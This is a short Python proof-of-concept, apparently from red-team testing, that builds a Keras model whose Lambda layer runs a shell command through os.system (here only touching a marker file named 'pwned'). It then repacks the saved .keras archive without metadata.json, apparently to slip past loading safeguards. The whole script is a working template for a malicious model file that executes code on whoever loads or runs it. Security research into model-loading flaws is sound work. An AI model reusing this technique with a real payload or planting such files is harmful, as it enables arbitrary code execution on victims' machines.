import os
os.environ["KERAS_BACKEND"] = "torch"
import keras, zipfile, io
m = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(lambda x: x * 1 if __import__("os").system("touch /tmp/rt15/pwned_keras_nometa") == 0 else x)])
m.save("/tmp/rt15/_tmp_lambda.keras")
zin = zipfile.ZipFile("/tmp/rt15/_tmp_lambda.keras")
print(zin.namelist())
with zipfile.ZipFile("fn_keras_no_metadata.keras", "w") as z:
    for n in zin.namelist():
        if n != "metadata.json":
            z.writestr(n, zin.read(n))
